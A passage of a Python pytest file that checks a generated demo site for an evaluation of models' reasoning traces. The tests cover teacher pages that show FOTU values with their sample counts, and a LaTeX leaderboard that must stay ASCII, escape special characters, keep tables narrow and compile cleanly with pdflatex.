    assert "fotu_before_leak_lo" in pd.read_csv(demo_site / "leaderboard.csv").columns
    tex = (demo_site / "leaderboard.tex").read_text(encoding="utf-8")
    assert "FOTU \\\\ before leak\\end{tabular}" in tex  # its header, on two lines
    assert "Answer leak: " in tex  # the warning is the FOTU column's footnote
    # The curves as the transfer page draws them: the human dashed and labelled a reference,
    # a marker on every measured bin.
    figure = _figure((demo_site / "index.html").read_text(encoding="utf-8"), "transfer-curves")
    lines = {t["name"]: t for t in figure["data"] if t.get("mode") == "lines"}
    assert set(references) == {"human"}
    assert lines["human (reference)"]["line"]["dash"] == "dash"
    assert lines["gpt-4"]["line"].get("dash") is None
    measured = {t["name"] for t in figure["data"] if t.get("mode") == "markers"}
    assert {"gpt-4 measured", "human measured"} <= measured
    assert "A marker is a measured bin" in page


@pytest.mark.slow
def test_demo_teacher_page_shows_each_value_with_its_n_and_coverage(demo_site: Path) -> None:
    """Issue 39, item 4: a teacher page showed `fotu 0.3667` next to `n_traces 10` when 3
    traces carry it: raw column names, and no n of the rows a value comes from."""
    import re

    from legival_core.store.store import Store
    from legival_core.views.site_pages import page_name

    store = Store.open(REPO / "results" / "demo")
    stored = store.read("teacher_metrics")
    transfer = store.read("trace_transfer")
    row = stored[stored["teacher"].astype(str).eq("palm-2-medium")]
    row = row[row["dataset"].astype(str).eq("champ-inequality")].iloc[0]
    pairs = transfer[
        transfer["teacher"].astype(str).eq("palm-2-medium")
        & transfer["dataset"].astype(str).eq("champ-inequality")
        & transfer["fotu"].notna()
    ]
    traces, students = pairs["trace_id"].nunique(), pairs["student"].nunique()
    assert traces < int(row["n_traces"])  # FOTU rests on fewer traces than the row holds
    page = (demo_site / "teachers" / f"{page_name('palm-2-medium')}.html").read_text(
        encoding="utf-8"
    )
    table = page.split('id="teacher-rows"')[1].split("</table>")[0]
    headers = re.findall(r"<th>(.*?)</th>", table)
    assert "FOTU" in headers and "FOTU before leak" in headers and "n traces" in headers
    assert not {"fotu", "n_traces", "regression_rate", "fotu_before_leak"} & set(headers)
    (line,) = [r for r in re.findall(r"<tr>(.*?)</tr>", table) if ">champ-inequality<" in r]
    cells = [
        " ".join(html.unescape(re.sub(r"<[^>]+>", " ", c)).split())
        for c in re.findall(r"<td[^>]*>(.*?)</td>", line)
    ]
    assert cells[headers.index("FOTU")] == (
        f"{100 * row['fotu']:.1f}% n {traces} of {int(row['n_traces'])} traces × {students} "
        "students"
    )


@pytest.mark.slow
def test_demo_latex_fits_a_page_and_every_mark_is_a_command(demo_site: Path) -> None:
    """Issue 39, item 4: the ⇅ marker printed as {[}U+21C5{]} and the .tex was one table of
    21 columns. The file is checked as TeX reads it: tables of at most 9 columns, balanced
    braces and environments, no code-point escapes, every special character escaped (the next
    test runs a TeX engine on it)."""
    import re

    from legival_core.store.safe_export import tex_text

    assert tex_text("2 (1–3) ⇅") == r"2 (1--3) $\uparrow\!\downarrow$"
    tex = (demo_site / "leaderboard.tex").read_text(encoding="utf-8")
    assert tex.isascii() and "U+" not in tex
    specs = re.findall(r"^\\begin\{tabular\}\{(\w+)\}", tex, re.M)
    assert len(specs) >= 2 and all(len(spec) <= 5 for spec in specs), specs
    # one column per metric: its value, interval, n, rank and change stacked in the cell
    core = tex.split("\\end{table}")[0]
    header_markup = r"\\textsuperscript\{\w\}|\\begin\{tabular\}\{@\{\}l@\{\}\}|\\end\{tabular\}"
    plain = re.sub(header_markup, "", core)
    assert "teacher & Accuracy & Tokens & FOTU & FOTU \\\\ before leak \\\\" in plain
    assert "rank 3 (1--4) $\\uparrow\\!\\downarrow$ \\\\ $\\Delta$ -2" in core  # gpt-4-turbo's FOTU
    assert "(appendix, part 1 of" in tex
    # every metric of the site's rank table is in one of the tables
    headers = [line for line in tex.splitlines() if line.startswith("teacher & ")]
    columns = {
        re.sub(header_markup, "", c)
        .replace(" \\\\ ", " ").strip().removesuffix("\\\\").strip()
        for h in headers for c in h.split(" & ")
    }  # fmt: skip
    for label in ("Redundancy", "Backtracking", "SOTU", "Regression", "FOTU before leak"):
        assert label in columns, (label, columns)
    depth = 0
    for char in re.sub(r"\\[{}]", "", tex):  # \{ and \} print braces, they open nothing
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0
    assert tex.count("\\begin{") == tex.count("\\end{")
    bare = re.sub(r" & |\\\\|\\[A-Za-z]+|\\[_%&#${}]", "", tex)  # separators and escapes
    assert not re.search(r"[_%&#]", bare), re.findall(r".{20}[_%&#].{20}", bare)[:3]


@pytest.mark.slow
def test_demo_latex_compiles_and_every_table_fits_the_text_width(
    demo_site: Path, tmp_path: Path
) -> None:
    """Issue 39, item 4: the site's ``leaderboard.tex`` compiles with pdflatex in a plain
    ``article`` with booktabs, and no table is wider than the text (TeX reports an overfull
    box for a table wider than the text width). pdflatex comes from Debian's
    texlive-latex-base and texlive-latex-recommended (booktabs); ``.ci/run`` installs both,
    so this runs in CI."""
    import shutil
    import subprocess

    pdflatex = shutil.which("pdflatex")
    if pdflatex is None:
        pytest.skip("no pdflatex: apt-get install texlive-latex-base texlive-latex-recommended")
    tables = (demo_site / "leaderboard.tex").read_text(encoding="utf-8")
    document = tmp_path / "board.tex"
    document.write_text(
        "\\documentclass{article}\n\\usepackage{booktabs}\n\\begin{document}\n"
        f"{tables}\n\\end{{document}}\n",
        encoding="ascii",
    )
    run = subprocess.run(
        [pdflatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape",
         document.name],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    log = (tmp_path / "board.log").read_text(encoding="latin-1")
    assert run.returncode == 0, log[-3000:]
    assert (tmp_path / "board.pdf").stat().st_size > 0
    assert tables.count("\\begin{table}") >= 2  # the core table and the appendix parts
    overfull = [line for line in log.splitlines() if line.startswith("Overfull \\hbox")]
    assert not overfull, overfull
    assert "Undefined control sequence" not in log and "Missing $ inserted" not in log
